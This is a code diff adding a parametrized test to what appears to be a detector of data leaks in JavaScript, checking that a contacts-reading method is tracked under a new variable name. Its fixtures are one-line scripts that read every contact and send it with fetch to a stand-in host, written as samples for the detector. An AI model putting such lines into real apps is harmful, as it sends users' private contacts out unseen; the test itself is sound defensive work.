@@ -116,3 +116,22 @@ def test_no_text_makes_following_fail(noise: str) -> None:
 @settings(max_examples=100, deadline=None)
 def test_no_script_that_is_cut_anywhere_makes_following_fail(scripts: list[str], at: int) -> None:
     followed(scripts[0][:at] + scripts[1][at // 2 :])
+
+
+TAKEN = Asked((".getAll;", ".getAll,"), frozenset({"Contacts"}), frozenset({"getAll"}))
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ("var n = r(d[2]).default.getAll; n().then(x => fetch('https://x.example', {body: x}))", True),
+        ("var n = Contacts.getAll, o = 1; n().then(x => fetch('https://x.example', {body: x}))", True),
+        ("var n = Contacts.getAll; m().then(x => fetch('https://x.example', {body: x}))", False),
+        ("var n = Loans.getAll; n().then(x => fetch('https://x.example', {body: x}))", False),
+        ("var n = Contacts.getAll; n = other; n().then(x => fetch('https://x.example', {body: x}))", False),
+    ],
+)
+def test_a_method_that_is_taken_out_of_its_object_is_followed_under_its_new_name(script: str, expected: bool) -> None:  # noqa: FBT001
+    found = followed(script, TAKEN)
+
+    assert (found is not None and found.sends) == expected
